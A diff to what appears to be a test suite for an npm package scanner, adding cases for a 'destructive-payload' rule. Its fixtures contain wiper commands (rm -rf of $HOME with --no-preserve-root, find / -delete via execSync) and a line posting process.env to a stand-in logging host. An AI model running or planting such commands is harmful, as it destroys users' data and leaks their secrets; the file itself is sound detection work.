@@ -81,6 +81,20 @@ describe('malicious shapes', () => {
     expect(ofRule(findings, 'npm/install-script')[0]?.severity).toBe('low')
   })
 
+  it('an install script or a command run from code that deletes the home directory or the root is a destructive payload', () => {
+    const wiper = judge({ root: ROOT, files: { 'package.json': pkgJson({ preinstall: 'node -v >/dev/null && rm -rf --no-preserve-root "$HOME"/* || true' }) } })
+    expect(ofRule(wiper, 'npm/destructive-payload')[0]).toMatchObject({ severity: 'high', line: 5 })
+    const fromCode = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'node i.js' }), 'i.js': `require('child_process').execSync('find / -xdev -delete')
+` } })
+    expect(ofRule(fromCode, 'npm/destructive-payload').map((f) => f.line)).toEqual([1])
+    // its own build output, and a home it set itself, are its own
+    const cleaner = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'rm -rf ./dist node_modules/.cache && export HOME=/tmp/h && rm -rf $HOME' }) } })
+    expect(ofRule(cleaner, 'npm/destructive-payload')).toEqual([])
+    // an assignment before the command is not: `$HOME` is expanded before it takes effect
+    const prefixed = judge({ root: ROOT, files: { 'package.json': pkgJson({ postinstall: 'HOME=/tmp/h rm -rf $HOME' }) } })
+    expect(ofRule(prefixed, 'npm/destructive-payload')).toHaveLength(1)
+  })
+
   it('runtime credential + network in one source file is high; secret variables alone are low', () => {
     const thief = judge({ root: ROOT, files: { 'package.json': pkgJson({}), 'index.js': `const data = JSON.stringify(process.env)\nfetch('https://log.example/c', { method: 'POST', body: data })\n` } })
     expect(ofRule(thief, 'npm/credential-exfiltration')[0]).toMatchObject({ severity: 'high', line: 1 })
